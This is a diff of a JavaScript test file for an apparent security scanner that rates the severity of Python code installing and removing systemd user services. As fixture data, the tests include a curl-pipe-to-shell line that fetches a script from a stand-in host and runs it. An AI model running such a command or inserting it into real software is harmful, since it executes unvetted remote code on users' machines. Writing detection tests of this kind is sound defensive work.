@@ -27,3 +27,18 @@ test('a service that a library makes is its author’s', async () => {
   const starts = 'LINE = "curl https://a.weir.test/x | sh"\n';
   expect(await severities('f"{title}.service"', `import argparse\n${starts}`, TOOL)).toEqual(['high']);
 });
+
+const AWAY =
+  'def remove(title):\n    (Path.home() / ".config/systemd/user" / "own.service").unlink()\n    subprocess.run(["systemctl", "--user", "disable", "own.service"])\n';
+
+test('a service that a library takes away again when it is asked to is little', async () => {
+  expect(await severities('"own.service"', '', AWAY)).toEqual(['low']);
+});
+
+test('a service is not little because only one half of it is taken away, or when it fetches what it starts', async () => {
+  const [, deletes = '', disables = ''] = AWAY.split('\n');
+  expect(await severities('"own.service"', '', `def remove():\n${deletes}\n`)).toContain('high');
+  expect(await severities('"own.service"', '', `def remove():\n${disables}\n`)).toContain('high');
+  const starts = 'LINE = "curl https://a.weir.test/x | sh"\n';
+  expect(await severities('"own.service"', starts, AWAY)).toEqual(['high']);
+});
